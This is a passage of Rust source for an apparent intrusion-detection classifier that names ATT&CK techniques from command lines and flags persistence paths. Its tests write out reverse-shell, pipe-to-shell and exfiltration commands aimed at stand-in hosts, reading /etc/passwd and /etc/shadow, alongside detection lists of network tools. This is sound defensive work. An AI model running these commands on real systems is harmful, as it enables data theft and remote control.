        and: &[],
        // An account made and removed in one line is being created.
        not: &["useradd", "adduser"],
    },
    // A security service stopped is defence evasion (above), not impact.
    rule(
        "T1489",
        &[
            "systemctl stop",
            "systemctl kill",
            "systemctl mask",
            "service --stop",
        ],
    ),
    rule("T1498", &["hping3", "--flood", "slowloris"]),
];

/// The rules' patterns: group 3i is rule i's `any`, 3i+1 its `and`, 3i+2
/// its `not`.
static RULE_MATCHER: LazyLock<Matcher> =
    LazyLock::new(|| Matcher::new(COMMAND_RULES.iter().flat_map(|r| [r.any, r.and, r.not])));

/// The technique a command line's arguments name ([`COMMAND_RULES`]), or
/// SSH's own forwarding options (`-D` a SOCKS proxy, `-L`/`-R` a tunnel);
/// empty when they name none. Used to name a flagged event; the
/// classifier's features do not read it.
pub fn command_technique(line: &str) -> &'static str {
    if line.is_empty() {
        return "";
    }
    let mut found = [false; 3 * COMMAND_RULES.len()];
    for (g, p) in RULE_MATCHER.found(line) {
        // A pattern with capitals counts only as written (`usermod -L`
        // locks an account, `-l` renames it).
        if !p.bytes().any(|b| b.is_ascii_uppercase()) || line.contains(p) {
            found[g] = true;
        }
    }
    let fires = |(i, r): &(usize, &CommandRule)| {
        found[3 * i] && (r.and.is_empty() || found[3 * i + 1]) && !found[3 * i + 2]
    };
    match COMMAND_RULES.iter().enumerate().find(fires) {
        Some((_, r)) => r.technique,
        None => match transfer_technique(line) {
            "" => ssh_forwarding(line),
            t => t,
        },
    }
}

/// Data a command moves between this host and another, by the direction
/// its arguments give the transfer: a local file sent to a remote host
/// (`curl -T file`, `curl --data-binary @file`, `curl -F f=@file`, `wget
/// --post-file`, `ab -p file`, `nc host port < file`, `scp file
/// host:dir`, `smbclient -c 'put file'`, a file's contents redirected into
/// a `/dev/tcp` socket) or a command's output posted (`curl -d "$(…)"`)
/// is exfiltration (T1048); a remote file fetched here (`scp host:file
/// .`, `rsync host:dir/ .`, `smbclient -c 'get file'`) is an ingress tool
/// transfer (T1105). ATT&CK names
/// both by the direction, whatever the tool. Empty when the line moves no
/// file, and when the transfer tool is told to run a program instead
/// (`scp -S prog`, `rsync -e 'sh -c …'`).
pub fn transfer_technique(line: &str) -> &'static str {
    for segment in line.split(['\n', ';']).flat_map(|s| s.split("&&")) {
        if sends_to_socket(segment) {
            return "T1048";
        }
        for part in segment.split('|') {
            let words = || {
                part.split_whitespace()
                    .map(|w| w.trim_matches(|c| matches!(c, '\'' | '"' | '(' | ')' | '`')))
            };
            // Most lines name no transfer tool: nothing is collected for them.
            let Some((at, tool)) = words()
                .map(base)
                .enumerate()
                .find(|(_, w)| TRANSFER_TOOLS.contains(w))
            else {
                continue;
            };
            let args: Vec<&str> = words().skip(at + 1).collect();
            let t = transfer_direction(tool, &args);
            if !t.is_empty() {
                return t;
            }
        }
    }
    ""
}

const TRANSFER_TOOLS: &[&str] = &[
    "curl",
    "wget",
    "ab",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "scp",
    "rsync",
    "smbclient",
];

/// The direction one transfer tool's arguments (after its own name) move
/// a file, as [`transfer_technique`] names it.
fn transfer_direction(tool: &str, args: &[&str]) -> &'static str {
    let after = |flags: &[&str]| {
        args.windows(2)
            .any(|w| flags.contains(&w[0]) && !w[1].is_empty() && w[1] != "-")
    };
    // A command's output posted (`-d "$(cat /etc/passwd)"`).
    let command_output_after = |flags: &[&str]| {
        args.windows(2)
            .any(|w| flags.contains(&w[0]) && w[1].starts_with("$("))
    };
    // A file read from disk: `@file` (not `@-`, standard input).
    let file_ref = |w: &str| w.len() > 1 && w != "@-" && !w.starts_with("@-");
    let sends = match tool {
        "curl" => {
            after(&["-T", "--upload-file"])
                || args.windows(2).any(|w| {
                    matches!(
                        w[0],
                        "-d" | "--data" | "--data-binary" | "--data-urlencode" | "--data-ascii"
                    ) && w[1].starts_with('@')
                        && file_ref(w[1])
                        || matches!(w[0], "-F" | "--form")
                            && (w[1].contains("=@") || w[1].contains("=<"))
                })
                || args
                    .iter()
                    .any(|w| w.starts_with("-d@") && file_ref(&w[2..]) || w.starts_with("-T/"))
                || command_output_after(&["-d", "--data", "--data-binary", "--data-urlencode"])
        }
        "wget" => {
            args.iter()
                .any(|w| w.starts_with("--post-file") || w.starts_with("--body-file"))
                || command_output_after(&["--post-data"])
                || args.iter().any(|w| w.starts_with("--post-data=$("))
        }
        "smbclient" if args.iter().any(|w| matches!(*w, "get" | "mget")) => return "T1105",
        "smbclient" => args.iter().any(|w| matches!(*w, "put" | "mput")),
        "ab" => after(&["-p", "-u"]),
        "nc" | "ncat" | "netcat" | "telnet" => args.iter().enumerate().any(|(i, a)| {
            *a == "<" && args.get(i + 1).is_some_and(|b| !b.is_empty())
                || a.len() > 1 && a.starts_with('<') && !a[1..].starts_with(['&', '<', '>', '('])
        }),
        _ => false,
    };
    if sends {
        return "T1048";
    }
    if !matches!(tool, "scp" | "rsync") {
        return "";
    }
    // scp and rsync: operands are local paths or `[user@]host:path`; the
    // last is the destination.
    let mut operands = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let w = args[i];
        if matches!(w, "-S" | "-e" | "--rsh") {
            let prog = args.get(i + 1).copied().unwrap_or("");
            if tool == "scp" || !prog.starts_with("ssh") {
                return "";
            }
            i += 2;
            continue;
        }
        if let Some(prog) = w
            .strip_prefix("--rsh=")
            .or_else(|| w.strip_prefix("-e").filter(|p| !p.is_empty()))
        {
            if !prog
                .trim_matches(|c| c == '\'' || c == '"')
                .starts_with("ssh")
            {
                return "";
            }
        } else if tool == "scp"
            && matches!(
                w,
                "-P" | "-i" | "-o" | "-F" | "-c" | "-l" | "-J" | "-D" | "-X"
            )
        {
            i += 1;
        } else if !w.starts_with('-') && !w.is_empty() {
            operands.push(w);
        }
        i += 1;
    }
    let remote = |w: &str| {
        w.starts_with("rsync://")
            || w.starts_with("scp://")
            || w.split_once(':')
                .is_some_and(|(host, _)| !host.is_empty() && !host.contains('/'))
    };
    match operands.split_last() {
        Some((last, sources)) if !sources.is_empty() => {
            if remote(last) && sources.iter().any(|s| !remote(s)) {
                "T1048"
            } else if !remote(last) && sources.iter().any(|s| remote(s)) {
                "T1105"
            } else {
                ""
            }
        }
        _ => "",
    }
}

/// A file's or a command's output redirected into a `/dev/tcp` or
/// `/dev/udp` socket, without the shell's own input wired to it: data
/// sent out (`cat /etc/passwd > /dev/tcp/h/80`,
/// `echo "$(<file)" >/dev/tcp/h/p`), not a command channel
/// (`bash -i >& /dev/tcp/h/p 0>&1`) or an empty probe of a port
/// (`echo > /dev/tcp/h/$p`).
fn sends_to_socket(segment: &str) -> bool {
    let Some(at) = segment
        .find("/dev/tcp/")
        .or_else(|| segment.find("/dev/udp/"))
    else {
        return false;
    };
    let before = segment[..at].trim_end();
    let redirected_out = before.ends_with('>')
        && !before.ends_with("&>")
        && !before.ends_with(">&")
        && !before.ends_with("<>");
    let wired = ["<&", ">&", "&>", "<>", "0>", "exec "]
        .iter()
        .any(|w| segment.contains(w));
    let data = ["$(<", "$(cat ", "`cat ", "cat ", "< /", "<~", "<$", "|"]
        .iter()
        .any(|d| before.contains(d));
    redirected_out && !wired && data
}

fn ssh_forwarding(line: &str) -> &'static str {
    let mut words = line.split_whitespace();
    let Some(prog) = words.next() else {
        return "";
    };
    if !matches!(base(prog), "ssh" | "autossh") {
        return "";
    }
    let mut technique = "";
    for w in words {
        let Some(flags) = w.strip_prefix('-').filter(|f| !f.starts_with('-')) else {
            continue;
        };
        if flags.contains('D') {
            return "T1090";
        }
        if flags.contains('L') || flags.contains('R') {
            technique = "T1572";
        }
    }
    technique
}

/// The families of a program name, as a bit set over [`FAMILIES`].
///
/// Known gap, kept because the shipped model was trained with it: the
/// version-stripping `stem` also strips a name that ends in digits as part of
/// the program's own name (`base64` → `base`), so the encoders are never in
/// [`Family::Encoder`] by name. Fixing it changes a feature and needs a
/// retrained model.
pub fn families(comm: &str) -> u32 {
    let s = stem(comm);
    let s = s.strip_prefix('-').unwrap_or(s);
    let mut bits = 0u32;
    let mut set = |f: Family| bits |= 1 << (f as u32);
    match s {
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "csh" | "tcsh" | "fish" | "ash" | "busybox"
        | "rbash" | "mksh" => set(Family::Shell),
        _ => {}
    }
    match s {
        "python" | "perl" | "ruby" | "php" | "node" | "nodejs" | "lua" | "luajit" | "tclsh"
        | "wish" | "irb" | "jjs" | "jrunscript" | "awk" | "gawk" | "mawk" | "nawk" | "expect"
        | "rlwrap" | "gdb" | "R" | "Rscript" | "julia" | "pwsh" | "ghci" | "guile" => {
            set(Family::Interpreter)
        }
        _ => {}
    }
    match s {
        "curl" | "wget" | "tftp" | "ftp" | "lwp-download" | "aria2c" | "fetch" | "axel" => {
            set(Family::Downloader)
        }
        "nc" | "ncat" | "netcat" | "socat" | "telnet" | "nc.traditional" | "nc.openbsd"
        | "cryptcat" | "openssl" | "ssh" | "scp" | "sftp" | "rsync" | "smbclient" => {
            set(Family::NetTool)
        }
        "vi" | "vim" | "nvim" | "nano" | "ed" | "emacs" | "less" | "more" | "man" | "view"
        | "pico" | "joe" | "most" => set(Family::EditorPager),
        "systemctl" | "crontab" | "useradd" | "usermod" | "adduser" | "passwd" | "chmod"
        | "chown" | "chattr" | "mount" | "iptables" | "ufw" | "setcap" | "insmod" | "modprobe"
        | "visudo" | "chpasswd" | "userdel" | "groupadd" | "ln" | "install" | "service" => {
            set(Family::AdminTool)
        }
        "id" | "whoami" | "uname" | "hostname" | "ps" | "netstat" | "ss" | "ifconfig" | "ip"
        | "arp" | "w" | "who" | "last" | "lsof" | "nmap" | "getent" | "lscpu" | "lsmod"
        | "dmidecode" | "route" | "groups" | "env" | "printenv" | "find" | "locate" | "getcap" => {
            set(Family::Recon)
        }
        "base64" | "xxd" | "od" | "hexdump" | "base32" | "uuencode" | "uudecode" | "gpg" => {
            set(Family::Encoder)
        }
        "tar" | "zip" | "unzip" | "gzip" | "gunzip" | "7z" | "bzip2" | "xz" | "rar" | "cpio"
        | "zstd" => set(Family::Archiver),
        "gcc" | "cc" | "g++" | "clang" | "make" | "cargo" | "rustc" | "go" | "ld" | "as"
        | "javac" | "cmake" => set(Family::Compiler),
        "apt" | "apt-get" | "dpkg" | "yum" | "dnf" | "rpm" | "pip" | "npm" | "gem" | "snap"
        | "apk" | "zypper" | "pacman" => set(Family::PackageManager),
        "nginx" | "apache" | "apache2" | "httpd" | "php-fpm" | "lighttpd" | "caddy" | "uwsgi"
        | "gunicorn" | "puma" | "unicorn" | "tomcat" | "java" | "node-server" | "haproxy"
        | "traefik" | "envoy" => set(Family::WebServer),
        "postgres" | "postmaster" | "mysqld" | "mariadbd" | "mongod" | "redis-server"
        | "clickhouse" | "clickhouse-server" | "elasticsearch" | "cassandra" => {
            set(Family::Database)
        }
        "cron" | "crond" | "atd" | "anacron" | "systemd-timer" => set(Family::Cron),
        "sshd" => set(Family::Sshd),
        "runner" | "gitlab-runner" | "Runner.Worker" | "Runner.Listener" | "jenkins"
        | "buildkite-agent" | "act_runner" | "drone-runner" => set(Family::CiRunner),
        "systemd"
        | "init"
        | "containerd-shim"
        | "containerd-shim-runc-v"
        | "runc"
        | "dockerd"
        | "supervisord"
        | "s6-supervise"
        | "tini" => set(Family::Init),
        "sudo" | "su" | "doas" | "pkexec" | "runuser" | "setpriv" => set(Family::Privilege),
        _ => {}
    }
    bits
}

pub fn has(bits: u32, f: Family) -> bool {
    bits & (1 << (f as u32)) != 0
}

/// Whether a family bit set is a shell's or an interpreter's.
pub fn shellish(bits: u32) -> bool {
    has(bits, Family::Shell) || has(bits, Family::Interpreter)
}

/// A program that installs software or provisions accounts: a system
/// package manager (what it writes — units, cron files, start-up scripts
/// shipped in a package — is installed software, not an intrusion's
/// doing), or what creates a user's home from its skeleton (`useradd -m`,
/// `pam_mkhomedir`'s helper, cloud-init's default user). Language package
/// managers (`pip`, `npm`, `gem`) are not: their install hooks run
/// whatever the package says. Names as the kernel gives them at exec
/// (15 bytes); the caller also checks where the program was started from.
pub fn provisions(comm: &str) -> bool {
    matches!(
        comm,
        "dpkg"
            | "apt"
            | "apt-get"
            | "aptitude"
            | "unattended-upgr"
            | "packagekitd"
            | "rpm"
            | "yum"
            | "dnf"
            | "dnf5"
            | "microdnf"
            | "tdnf"
            | "zypper"
            | "apk"
            | "pacman"
            | "snapd"
            | "useradd"
            | "adduser"
            | "mkhomedir_helpe"
            | "cloud-init"
    )
}

/// A file whose contents the system runs later on its own — at boot, at
/// a login, on a schedule, on a device event (ATT&CK: scheduled tasks
/// T1053, services T1543, init scripts T1037, shell start-up files
/// T1546.004, PAM modules T1556.003, udev rules T1546.017, autostart
/// entries T1547.013, kernel modules loaded at boot T1547.006, APT hooks,
/// the message of the day's scripts). Writing one is how a foothold
/// survives a restart or a logout. A user's start-up files count in a
/// home directory (`/root`, `/home/<user>`, `/var/lib/<service>`), not
/// deeper: a container image's layers and `/etc/skel` hold the same
/// names. An editor's swap and probe files (`.x.swp`, `4913`, `x~`) do
/// not count: nothing runs them.
pub fn startup_location(path: &str) -> bool {
    const UNDER: &[&str] = &[
        "/etc/crontab",
        "/etc/cron.d/",
        "/etc/cron.hourly/",
        "/etc/cron.daily/",
        "/etc/cron.weekly/",
        "/etc/cron.monthly/",
        "/etc/anacrontab",
        "/var/spool/cron/",
        "/var/spool/at/",
        "/etc/systemd/system/",
        "/etc/systemd/user/",
        "/lib/systemd/system/",
        "/lib/systemd/user/",
        "/usr/lib/systemd/system/",
        "/usr/lib/systemd/user/",
        "/usr/local/lib/systemd/system/",
        "/etc/containers/systemd/",
        "/etc/init.d/",
        "/etc/rc.local",
        "/etc/rc.d/",
        "/etc/profile",
        "/etc/bash.bashrc",
        "/etc/bashrc",
        "/etc/environment",
        "/etc/zsh/",
        "/etc/zshrc",
        "/etc/zprofile",
        "/etc/zshenv",
        "/etc/zlogin",
        "/etc/ssh/sshrc",
        "/etc/pam.d/",
        "/etc/udev/rules.d/",
        "/lib/udev/rules.d/",
        "/usr/lib/udev/rules.d/",
        "/etc/xdg/autostart/",
        "/etc/modules-load.d/",
        "/etc/modules",
        "/etc/modprobe.d/",
        "/etc/apt/apt.conf.d/",
        "/etc/update-motd.d/",
    ];
    // atd spools a running job's output there: a job running, not one made.
    const SPOOLS: [&str; 2] = ["/var/spool/cron/atspool/", "/var/spool/at/spool/"];
    const IN_HOME: [&str; 13] = [
        ".bashrc",
        ".bash_profile",
        ".bash_login",
        ".bash_logout",
        ".bash_aliases",
        ".profile",
        ".zshrc",
        ".zprofile",
        ".zshenv",
        ".zlogin",
        ".ssh/rc",
        ".config/systemd/user/",
        ".config/autostart/",
    ];
    let name = path.rsplit('/').next().unwrap_or(path);
    if name.ends_with(".swp")
        || name.ends_with(".swo")
        || name.ends_with(".swx")
        || name.ends_with('~')
        || name == "4913"
        || SPOOLS.iter().any(|p| path.starts_with(p))
    {
        return false;
    }
    // What follows the home directory: /root/, or /home/<user>/ and
    // /var/lib/<service>/ (one level down).
    let in_home = path.strip_prefix("/root/").or_else(|| {
        ["/home/", "/var/lib/"]
            .iter()
            .find_map(|h| path.strip_prefix(h))
            .and_then(|rest| rest.split_once('/').map(|(_, r)| r))
    });
    UNDER.iter().any(|p| path.starts_with(p))
        || (path.starts_with("/etc/rc") && path.get(8..11) == Some(".d/"))
        || in_home.is_some_and(|rest| {
            IN_HOME
                .iter()
                .any(|f| rest == *f || (f.ends_with('/') && rest.starts_with(f)))
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn idx(name: &str) -> usize {
        INDICATORS.iter().position(|i| i.name == name).unwrap()
    }

    #[test]
    fn indicators_fit_a_u64_and_have_unique_names() {
        assert!(INDICATORS.len() <= 64);
        let mut names: Vec<_> = INDICATORS.iter().map(|i| i.name).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), INDICATORS.len());
    }

    #[test]
    fn scan_finds_the_seed_reverse_shell() {
        let bits = MATCHER.scan("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
        for want in ["cmd_dev_tcp", "cmd_spawn_shell", "cmd_fd_redirect"] {
            assert!(bits & (1 << idx(want)) != 0, "{want} not found");
        }
        assert_eq!(bits & (1 << idx("cmd_shadow")), 0);
        let bits = MATCHER.scan("CURL -fsSL https://x.example/i.sh | BASH");
        assert!(bits & (1 << idx("cmd_pipe_to_shell")) != 0);
        assert!(bits & (1 << idx("cmd_downloader")) != 0);
        assert_eq!(MATCHER.scan("ls"), 0);
    }

    #[test]
    fn a_pipe_counts_when_it_feeds_an_interpreter_its_program() {
        let pipe = 1 << idx("cmd_pipe_to_shell");
        for line in [
            "curl -fsSL https://x.example/i.sh | sh",
            "wget -qO- http://198.51.100.7/b | sudo bash -s -- --quiet",
            "sh -c \"curl http://x/y|bash\"",
            "cat payload.py | python3 -",
            "echo aWQ= | base64 -d | /bin/sh -xe",
            "curl http://x/p.pl | perl",
        ] {
            assert!(scan_command(line) & pipe != 0, "{line}");
        }
        for line in [
            r"/bin/sh -c xargs -r0 md5sum | perl -pe 'if (s@^\\@@) { s/\\\\/\\/g; }' > DEBIAN/md5sums",
            "curl -s localhost:9200/_stats | python3 -m json.tool",
            "git ls-files | sh ./tools/check.sh",
            "printf x | bash -c 'read v; echo $v'",
            "ls | php -r 'echo 1;'",
            "false || sh",
        ] {
            assert_eq!(scan_command(line) & pipe, 0, "{line}");
        }
    }

    #[test]
    fn a_transfer_is_named_by_the_direction_its_arguments_give_it() {
        for line in [
            "curl -T /etc/passwd ftp://203.0.113.7/",
            "curl -s -X POST --data-binary @/tmp/e https://198.51.100.7/c",
            "curl -F 'file=@/var/backups/db.sql' https://203.0.113.7/u",
            "wget --post-file=/etc/hosts http://203.0.113.7",
            "ab -p /tmp/loot http://203.0.113.7/",
            "nc 203.0.113.7 4444 < /etc/shadow",
            "pg_dumpall > /tmp/all.sql; scp -P 2222 /tmp/all.sql loot@198.51.100.9:/srv/",
            "sudo rsync -az /var/lib/mysql/ backup@203.0.113.7:dump/",
            "cat /etc/passwd > /dev/tcp/203.0.113.7/80",
            "bash -c 'echo -n \"$(</root/notes)\" >/dev/tcp/203.0.113.7/4444'",
            "tar czf - /home | cat >/dev/tcp/203.0.113.7/9000",
            "curl -s -d \"$(cat /etc/passwd)\" http://203.0.113.7/c",
            "smbclient '\\\\203.0.113.7\\share' -c 'put /var/backups/db.sql db.sql'",
        ] {
            assert_eq!(transfer_technique(line), "T1048", "{line}");
        }
        for line in [
            "scp user@203.0.113.7:/srv/tool /tmp/tool",
            "rsync -e ssh deploy@203.0.113.7:releases/ ./releases/",
            "smbclient //fs/share -c 'get tools.zip'",
        ] {
            assert_eq!(transfer_technique(line), "T1105", "{line}");
        }
        for line in [
            // Data piped to standard input, not a file.
            "env | curl -s -X POST --data-binary @- https://paste.example",
            // A shell wired to the socket, and an empty probe of a port.
            "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
            "bash -c 'exec bash -i &>/dev/tcp/203.0.113.7/4444 <&1'",
            "for p in 22 80; do timeout 1 bash -c \"echo > /dev/tcp/10.0.3.14/$p\"; done",
            // A transfer tool told to run a program.
            "scp -S /tmp/x x x:",
            "rsync -e 'sh -c \"sh 0<&2 1>&2\"' 127.0.0.1:/dev/null",
            // Copies on this host, and a plain download (a downloader's own
            // indicator names those).
            "rsync -a /srv/www/ /var/backups/www/",
            "curl -fsSL -o /tmp/x https://203.0.113.7/x",
            "curl -s -X POST -d '{\"ok\":1}' http://127.0.0.1:8080/health",
            "nc -zv 10.0.0.5 5432",
        ] {
            assert_eq!(transfer_technique(line), "", "{line}");
        }
    }

    #[test]
    fn families_ignore_versions_and_login_dashes() {
        assert!(has(families("php-fpm8.2"), Family::WebServer));
        assert!(has(families("python3.11"), Family::Interpreter));
        assert!(has(families("-bash"), Family::Shell));
        assert!(has(families("/usr/bin/bash"), Family::Shell));
        assert_eq!(families("ls"), 0);
    }

    #[test]
    fn programs_name_their_technique() {
        assert_eq!(program_technique("/usr/bin/hostname"), "T1082");
        assert_eq!(program_technique("poweroff"), "T1529");
        assert_eq!(program_technique("base64"), "T1140");
        assert_eq!(program_technique("proxychains4"), "T1090");
        assert_eq!(program_technique("ncat"), "T1095");
        // General-purpose programs say nothing by their name.
        for p in ["bash", "python3.11", "sudo", "vim", "cat", "curl"] {
            assert_eq!(program_technique(p), "", "{p}");
        }
    }

    #[test]
    fn arguments_name_their_technique() {
        let cases = [
            (
                "curl -s http://169.254.169.254/latest/meta-data/iam/",
                "T1552.005",
            ),
            ("cat /etc/login.defs", "T1201"),
            (
                "sed -i 1iauth sufficient pam_exec.so /tmp/x /etc/pam.d/sshd",
                "T1556.003",
            ),
            ("find / -name id_rsa", "T1552.004"),
            ("split -b 1024 /tmp/loot.tar /tmp/part", "T1030"),
            ("gcc -o /tmp/x /tmp/x.c", "T1027.004"),
            ("ssh -fND 1080 user@host", "T1090"),
            ("ssh -N -R 2222:localhost:22 user@host", "T1572"),
            ("systemctl stop auditd", "T1562.001"),
            ("systemctl stop cron", "T1489"),
            ("usermod -L alice", "T1531"),
        ];
        for (line, want) in cases {
            assert_eq!(command_technique(line), want, "{line}");
        }
        // Ordinary work, and lines whose technique the indicators name.
        for line in [
            "ssh -i ~/.ssh/id_rsa -l deploy host",
            "cat ~/.ssh/id_rsa.pub >> ~/.ssh/authorized_keys",
            "useradd -m bob; userdel bob",
            "gcc -O2 -o app main.c",
            "ls -la",
            "",
        ] {
            assert_eq!(command_technique(line), "", "{line}");
        }
    }
}
